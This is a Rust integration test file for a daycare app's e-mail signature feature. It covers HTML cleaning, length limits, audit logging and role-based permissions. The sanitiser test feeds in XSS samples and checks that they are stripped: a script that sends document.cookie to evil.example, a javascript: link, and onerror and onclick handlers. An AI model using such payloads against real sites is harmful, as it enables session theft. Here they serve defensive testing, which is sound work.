//! E-mail signatures ("Signature courriel"): kept by the people holding the signature
//! permission, cleaned of anything but minimal HTML, and handed to the mail sender as text and
//! HTML.

use crate::harness::{Answer, Db, Server};
use crate::on_every_database;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use sesame_core::Profile;

async fn put(s: &Server, token: &str, body: Value) -> Answer {
    s.call(
        Method::PUT,
        "/api/v1/account/signature",
        Some(token),
        Some(body),
    )
    .await
}

async fn for_message(s: &Server, user_id: &str) -> Option<sesame_app::signature::MailSignature> {
    let org = s.app.org(None).await.expect("org");
    let mut conn = s.app.store.read().await.expect("conn");
    sesame_app::signature::for_message(&mut conn, org.id(), user_id)
        .await
        .expect("signature")
}

async fn a_director_keeps_a_clean_signature(db: &Db) {
    let s = Server::start(db).await;
    let admin = s.init(Profile::Daycare).await;
    let me = s.get("/api/v1/me", &admin).await;
    let admin_id = me.body["user"]["id"].as_str().expect("id").to_string();

    let none = s.get("/api/v1/account/signature", &admin).await;
    assert_eq!(none.status, StatusCode::OK, "{}", none.body);
    assert_eq!(none.body, json!({"signature": "", "html": "", "text": ""}));
    assert!(for_message(&s, &admin_id).await.is_none());

    // Plain text: kept as written, escaped for HTML.
    let plain = put(
        &s,
        &admin,
        json!({"signature": "Marie Tremblay\r\nDirectrice — CPE Les Lilas & Cie\n"}),
    )
    .await;
    assert_eq!(plain.status, StatusCode::OK, "{}", plain.body);
    assert_eq!(
        plain.body["signature"],
        "Marie Tremblay\nDirectrice — CPE Les Lilas & Cie"
    );
    assert_eq!(
        plain.body["html"],
        "Marie Tremblay<br>\nDirectrice — CPE Les Lilas &amp; Cie"
    );
    assert_eq!(
        plain.body["text"],
        "Marie Tremblay\nDirectrice — CPE Les Lilas & Cie"
    );
    let sig = for_message(&s, &admin_id).await.expect("a signature");
    assert_eq!(sig.text, "Marie Tremblay\nDirectrice — CPE Les Lilas & Cie");
    assert_eq!(
        sig.html,
        "Marie Tremblay<br>\nDirectrice — CPE Les Lilas &amp; Cie"
    );

    // HTML: a script goes with its content, a javascript: link loses its address, the rest
    // stays, links open safely.
    let html = put(
        &s,
        &admin,
        json!({"signature": "<p><strong>Marie Tremblay</strong><script>fetch('https://evil.example/?c='+document.cookie)</script><br>\
            <a href=\"javascript:alert(1)\">cliquez</a> · <a href=\"https://cpe-lilas.example/\" onclick=\"x()\" target=\"_blank\">cpe-lilas.example</a>\
            <img src=\"x\" onerror=\"alert(1)\"></p><p style=\"color:red\"><i>Merci</i></p>"}),
    )
    .await;
    assert_eq!(html.status, StatusCode::OK, "{}", html.body);
    let stored = html.body["signature"].as_str().expect("signature");
    for gone in [
        "script",
        "fetch",
        "evil",
        "javascript",
        "onclick",
        "target",
        "img",
        "onerror",
        "style",
    ] {
        assert!(!stored.contains(gone), "{gone} in {stored}");
    }
    assert_eq!(
        stored,
        "<p><strong>Marie Tremblay</strong><br><a rel=\"noopener noreferrer\">cliquez</a> · \
         <a href=\"https://cpe-lilas.example/\" rel=\"noopener noreferrer\">cpe-lilas.example</a></p><p><i>Merci</i></p>"
    );
    assert_eq!(html.body["html"], stored);
    assert_eq!(
        html.body["text"],
        "Marie Tremblay\ncliquez · cpe-lilas.example (https://cpe-lilas.example/)\n\nMerci"
    );
    let again = s.get("/api/v1/account/signature", &admin).await;
    assert_eq!(again.body, html.body);
    let sig = for_message(&s, &admin_id).await.expect("a signature");
    assert_eq!(sig.html, stored);
    assert!(sig.text.starts_with("Marie Tremblay\n"), "{}", sig.text);

    // Too long, named, in both languages; nothing changed.
    let long = "x".repeat(2001);
    let m = put(&s, &admin, json!({"signature": long})).await.problem(
        422,
        "signature",
        "signature.too_long",
    );
    assert!(m.contains("2001") && m.contains("2000"), "{m}");
    let en = s
        .call_lang(
            Method::PUT,
            "/api/v1/account/signature",
            Some(&admin),
            Some(json!({"signature": long})),
            Some("en"),
        )
        .await;
    let m = en.problem(422, "signature", "signature.too_long");
    assert!(m.starts_with("The signature is too long"), "{m}");
    assert_eq!(
        s.get("/api/v1/account/signature", &admin).await.body,
        html.body
    );
    put(&s, &admin, json!({}))
        .await
        .problem(422, "signature", "request.missing_field");

    // Audited, briefly.
    let log = s
        .get(
            &format!("/api/v1/audit?action=signature.update&target={admin_id}"),
            &admin,
        )
        .await;
    let items = log.body["items"].as_array().expect("items");
    assert_eq!(items.len(), 2, "{}", log.body);
    assert_eq!(items[1]["before"]["signature"], "");
    assert_eq!(
        items[1]["after"]["signature"],
        "Marie Tremblay Directrice — CPE Les Lilas & Cie"
    );
    let excerpt = items[0]["after"]["signature"].as_str().expect("excerpt");
    assert!(
        excerpt.chars().count() <= 61 && excerpt.ends_with('…'),
        "{excerpt}"
    );

    // An empty signature removes it.
    let cleared = put(&s, &admin, json!({"signature": "  "})).await;
    assert_eq!(cleared.status, StatusCode::OK, "{}", cleared.body);
    assert_eq!(cleared.body["signature"], "");
    assert!(for_message(&s, &admin_id).await.is_none());
    // The fields as an array in order are not the object asked for: refused, nothing set.
    put(&s, &admin, json!(["Marie, directrice"]))
        .await
        .problem(422, "", "request.json_object");
    assert!(for_message(&s, &admin_id).await.is_none());
    s.stop().await;
}
on_every_database!(
    a_director_keeps_a_clean_email_signature,
    a_director_keeps_a_clean_signature
);

async fn only_holders_of_the_permission_sign(db: &Db) {
    let s = Server::start(db).await;
    let admin = s.init(Profile::Daycare).await;
    // A manager of a daycare has no signature permission (Amisgest keeps it for the
    // Administration role).
    let (manager_id, manager) = s
        .user_with_roles(&admin, "gestion.a", json!([{"role": "Gestionnaire"}]))
        .await;
    let m =
        s.get("/api/v1/account/signature", &manager)
            .await
            .problem(403, "", "permission.missing");
    assert!(m.contains("signature courriel"), "{m}");
    put(&s, &manager, json!({"signature": "Paul"}))
        .await
        .problem(403, "", "permission.missing");

    // A second director signs, then loses the role: the mail sender no longer uses it.
    let (director_id, director) = s
        .user_with_roles(&admin, "direction.b", json!([{"role": "Administration"}]))
        .await;
    let set = put(
        &s,
        &director,
        json!({"signature": "Lucie Gagnon, direction"}),
    )
    .await;
    assert_eq!(set.status, StatusCode::OK, "{}", set.body);
    assert_eq!(
        for_message(&s, &director_id).await.map(|m| m.text),
        Some("Lucie Gagnon, direction".to_string())
    );
    let demoted = s
        .patch(
            &format!("/api/v1/users/{director_id}"),
            &admin,
            json!({"roles": [{"role": "Gestionnaire"}]}),
        )
        .await;
    assert_eq!(demoted.status, StatusCode::OK, "{}", demoted.body);
    assert!(for_message(&s, &director_id).await.is_none());
    assert!(for_message(&s, &manager_id).await.is_none());
    s.stop().await;
}
on_every_database!(
    only_holders_of_the_signature_permission_keep_one,
    only_holders_of_the_permission_sign
);
